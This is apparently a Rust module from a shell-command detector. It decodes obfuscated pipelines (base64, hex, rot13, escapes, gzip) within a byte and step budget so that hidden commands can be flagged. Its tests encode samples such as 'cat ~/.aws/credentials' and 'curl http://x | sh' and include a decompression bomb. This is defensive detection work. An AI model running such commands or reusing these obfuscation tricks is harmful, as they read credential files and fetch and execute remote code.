//! The bounded evaluator: what a pipeline of pure commands prints, when every
//! byte of it is written in the command line.
//!
//! `echo`/`printf` (with their escapes), `cat` of a here-string or
//! here-document, `base64 -d`, `base32 -d`, `basenc -d`, `xxd -r [-p]`,
//! `openssl base64 -d`, `rev`, `tr`, `gunzip`/`zcat`, simple `sed s///` and
//! their encoding twins are run here, on literal text only, within a
//! [`Budget`] of bytes and steps. Anything else (a file, the network, a
//! variable nobody set) makes the result unknown. The walker uses this to see
//! through `$(echo Y3VybA== | base64 -d)`, `… | base64 -d | sh` and friends.

pub use super::codec::{decode_base64, decode_kind, inflate_first};
use super::codec::{encode_kind, hex_dump_reverse, hex_plain, inflate, rev};
pub use super::textops::unescape;
use super::textops::{echo, printf, sed, tr};
use super::{Command, RedirectKind};

/// What decoding may still spend on one command line.
#[derive(Debug, Clone)]
pub struct Budget {
    /// Bytes all decoded outputs together may still produce.
    pub bytes: usize,
    /// Commands the evaluator may still run.
    pub steps: usize,
}

impl Budget {
    /// The budget of one command line: 1 MiB of decoded text, 256 steps.
    pub fn new() -> Budget {
        Budget {
            bytes: 1 << 20,
            steps: 256,
        }
    }

    /// Takes `n` bytes from the budget; false when there are not that many left.
    pub fn take(&mut self, n: usize) -> bool {
        if n > self.bytes {
            self.bytes = 0;
            return false;
        }
        self.bytes -= n;
        true
    }

    /// One expansion of an alias or a function body of `n` bytes: a step and
    /// its bytes, so that `a(){ a;a;a; }; a` cannot multiply without bound.
    pub fn expansion(&mut self, n: usize) -> bool {
        self.steps > 0 && self.step() && self.take(n)
    }

    fn step(&mut self) -> bool {
        if self.steps == 0 {
            return false;
        }
        self.steps -= 1;
        true
    }
}

impl Default for Budget {
    fn default() -> Self {
        Budget::new()
    }
}

/// The result of evaluating a stage.
#[derive(Debug, Clone, PartialEq)]
pub struct Output {
    pub bytes: Vec<u8>,
    /// Names of the decoding steps applied (`base64 -d`, `rev`…), in order.
    pub decoders: Vec<String>,
}

/// What `cmd` prints given `stdin` (`None`: no known input), or `None` when
/// the command is not one this evaluator runs or its input is not literal.
pub fn run(cmd: &Command, stdin: Option<&[u8]>, budget: &mut Budget) -> Option<Output> {
    if !budget.step() || cmd.dynamic_name {
        return None;
    }
    let here = here_input(cmd);
    let input: Option<&[u8]> = here.as_deref().or(stdin);
    let name = cmd.name();
    let args = cmd.args();
    if cmd.unresolved || args.iter().any(|a| a.contains("$(…)")) {
        return None;
    }
    let plain = |bytes: Vec<u8>| Output {
        bytes,
        decoders: Vec::new(),
    };
    let decoded = |bytes: Vec<u8>, how: &str| Output {
        bytes,
        decoders: vec![how.to_string()],
    };
    // escapes that turned into other characters are an encoding too
    let escaped = |out: &[u8]| {
        let joined = args.join(" ");
        let hidden = ["\\x", "\\0", "\\u", "\\1", "\\2", "\\3"]
            .iter()
            .any(|e| joined.contains(e));
        hidden && !out.is_empty()
    };
    let out = match name.as_str() {
        "echo" => {
            let b = echo(args);
            if escaped(&b)
                && args
                    .iter()
                    .any(|a| a.starts_with("-e") || a == "-ne" || a == "-en")
            {
                decoded(b, "echo -e")
            } else {
                plain(b)
            }
        }
        "printf" => {
            let b = printf(args)?;
            if escaped(&b) {
                decoded(b, "printf")
            } else {
                plain(b)
            }
        }
        "cat" => {
            if args.iter().any(|a| a != "-" && !a.starts_with('-')) {
                return None;
            }
            plain(input?.to_vec())
        }
        "base64" | "base32" | "basenc" => {
            let decode = has_flag(args, &["-d", "--decode", "-D"]);
            let kind = if name == "basenc" {
                basenc_kind(args)?
            } else {
                name.as_str()
            };
            let data = match file_arg(args) {
                Some(_) => return None,
                None => input?,
            };
            if decode {
                decoded(decode_kind(kind, data)?, &format!("{name} -d"))
            } else {
                plain(encode_kind(kind, data)?)
            }
        }
        "xxd" => {
            let data = input?;
            if file_arg(args).is_some() {
                return None;
            }
            if has_flag(args, &["-r", "-revert"]) {
                let plain_hex = has_flag(args, &["-p", "-ps", "-plain", "-postscript"]);
                let out = if plain_hex {
                    hex_plain(data)?
                } else {
                    hex_dump_reverse(data)?
                };
                decoded(out, "xxd -r")
            } else if has_flag(args, &["-p", "-ps", "-plain"]) {
                plain(hex::encode(data).into_bytes())
            } else {
                return None;
            }
        }
        "openssl" => {
            let sub = args.first().map(String::as_str).unwrap_or("");
            let b64 = sub == "base64"
                || (sub == "enc"
                    && (has_flag(args, &["-base64", "-a", "-A"]))
                    && !args.iter().any(|a| {
                        a.starts_with("-aes")
                            || a.starts_with("-des")
                            || a.starts_with("-k")
                            || a.starts_with("-pass")
                    }));
            if !b64 || !has_flag(args, &["-d"]) || args.iter().any(|a| a == "-in") {
                return None;
            }
            decoded(decode_kind("base64", input?)?, "openssl base64 -d")
        }
        "rev" => {
            if file_arg(args).is_some() {
                return None;
            }
            decoded(rev(input?), "rev")
        }
        "tr" => decoded(tr(args, input?)?, "tr"),
        "gunzip" | "zcat" | "gzip" | "zlib-flate" => {
            if name == "gzip" && !has_flag(args, &["-d", "--decompress"]) {
                return None;
            }
            if file_arg(args).is_some() && name != "zlib-flate" {
                return None;
            }
            decoded(inflate(input?, budget)?, &name)
        }
        "sed" => plain(sed(args, input?)?),
        _ => return None,
    };
    if !budget.take(out.bytes.len()) {
        return None;
    }
    Some(out)
}

/// A here-string (with its newline) or here-document given to the command.
fn here_input(cmd: &Command) -> Option<Vec<u8>> {
    let r = cmd
        .redirects
        .iter()
        .rev()
        .find(|r| matches!(r.kind, RedirectKind::HereString | RedirectKind::HereDoc))?;
    let mut v = r.target.as_bytes().to_vec();
    if r.kind == RedirectKind::HereString {
        v.push(b'\n');
    }
    Some(v)
}

fn has_flag(args: &[String], flags: &[&str]) -> bool {
    args.iter().any(|a| {
        flags.contains(&a.as_str())
            || flags.iter().any(|f| {
                f.len() == 2
                    && a.starts_with('-')
                    && !a.starts_with("--")
                    && a.len() > 2
                    && a[1..].chars().all(|c| c.is_ascii_alphanumeric())
                    && a[1..].contains(&f[1..])
            })
    })
}

/// The first argument that is not an option (or its value).
fn file_arg(args: &[String]) -> Option<&String> {
    let mut skip = false;
    for a in args {
        if skip {
            skip = false;
            continue;
        }
        if a == "-w" || a == "-i" || a == "--wrap" || a == "-c" || a == "-s" || a == "-l" {
            skip = true;
            continue;
        }
        if a == "-" || a.starts_with('-') {
            continue;
        }
        return Some(a);
    }
    None
}

fn basenc_kind(args: &[String]) -> Option<&'static str> {
    for a in args {
        match a.as_str() {
            "--base64" => return Some("base64"),
            "--base64url" => return Some("base64url"),
            "--base32" => return Some("base32"),
            "--base16" => return Some("base16"),
            _ => {}
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::shell::{Redirect, Via};
    use base64::Engine;

    fn cmd(argv: &[&str]) -> Command {
        Command::new(
            argv.iter().map(|s| s.to_string()).collect(),
            Via::Direct,
            0,
            argv.join(" "),
        )
    }

    fn pipe(stages: &[Command]) -> Option<String> {
        let mut b = Budget::new();
        let mut cur: Option<Vec<u8>> = None;
        for c in stages {
            cur = Some(run(c, cur.as_deref(), &mut b)?.bytes);
        }
        cur.map(|v| String::from_utf8_lossy(&v).into_owned())
    }

    #[test]
    fn printers_and_their_escapes() {
        assert_eq!(pipe(&[cmd(&["echo", "a", "b"])]).as_deref(), Some("a b\n"));
        assert_eq!(pipe(&[cmd(&["echo", "-n", "x"])]).as_deref(), Some("x"));
        assert_eq!(
            pipe(&[cmd(&["echo", "-e", r"\x63\x75rl"])]).as_deref(),
            Some("curl\n")
        );
        assert_eq!(
            pipe(&[cmd(&["printf", r"\x63\x75\x72\x6c"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["printf", r"\143\141\164"])]).as_deref(),
            Some("cat")
        );
        assert_eq!(
            pipe(&[cmd(&["printf", "%s", "cu", "rl"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["printf", "%c%c", "c", "u"])]).as_deref(),
            Some("cu")
        );
        assert_eq!(
            pipe(&[cmd(&["printf", r"\u0063at"])]).as_deref(),
            Some("cat")
        );
        assert_eq!(
            pipe(&[cmd(&["printf", "%b", r"\x63at"])]).as_deref(),
            Some("cat")
        );
    }

    #[test]
    fn decoders_run_on_literal_input_only() {
        let b64 = || cmd(&["base64", "-d"]);
        assert_eq!(
            pipe(&[cmd(&["echo", "Y2F0IH4vLmF3cy9jcmVkZW50aWFscw=="]), b64()]).as_deref(),
            Some("cat ~/.aws/credentials")
        );
        assert_eq!(
            pipe(&[cmd(&["echo", "Y3VybA"]), cmd(&["base64", "--decode"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["echo", "6375726c"]), cmd(&["xxd", "-r", "-p"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[
                cmd(&["echo", "00000000: 6375 726c  curl"]),
                cmd(&["xxd", "-r"])
            ])
            .as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["echo", "-n", "lruc"]), cmd(&["rev"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["echo", "-n", "phey"]), cmd(&["tr", "a-z", "n-za-m"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["echo", "-n", "MN2XE3A="]), cmd(&["base32", "-d"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[
                cmd(&["echo", "Y3VybA=="]),
                cmd(&["openssl", "base64", "-d"])
            ])
            .as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["echo", "-n", "cXurXl"]), cmd(&["sed", "s/X//g"])]).as_deref(),
            Some("curl")
        );
        assert_eq!(
            pipe(&[cmd(&["echo", "-n", "c u r l"]), cmd(&["tr", "-d", " "])]).as_deref(),
            Some("curl")
        );
        // here-strings feed the command
        let mut c = cmd(&["base64", "-d"]);
        c.redirects.push(Redirect {
            kind: RedirectKind::HereString,
            target: "Y3VybA==".into(),
        });
        assert_eq!(pipe(&[c]).as_deref(), Some("curl"));
        // files, the network and unknown commands are not evaluated
        assert_eq!(pipe(&[cmd(&["base64", "-d", "payload.b64"])]), None);
        assert_eq!(pipe(&[cmd(&["curl", "-s", "https://x.example"])]), None);
        assert_eq!(pipe(&[cmd(&["echo", "$(…)"]), b64()]), None);
    }

    #[test]
    fn compressed_payloads_inflate_within_the_budget() {
        use std::io::Write;
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(b"curl http://x | sh").expect("gz");
        let gz = e.finish().expect("gz");
        let b64 = base64::engine::general_purpose::STANDARD.encode(gz);
        assert_eq!(
            pipe(&[
                cmd(&["echo", &b64]),
                cmd(&["base64", "-d"]),
                cmd(&["gunzip"])
            ])
            .as_deref(),
            Some("curl http://x | sh")
        );
        // a bomb stops at the budget
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        e.write_all(&vec![b'a'; 8 << 20]).expect("gz");
        let bomb = base64::engine::general_purpose::STANDARD.encode(e.finish().expect("gz"));
        assert_eq!(
            pipe(&[
                cmd(&["echo", &bomb]),
                cmd(&["base64", "-d"]),
                cmd(&["zcat"])
            ]),
            None
        );
    }
}
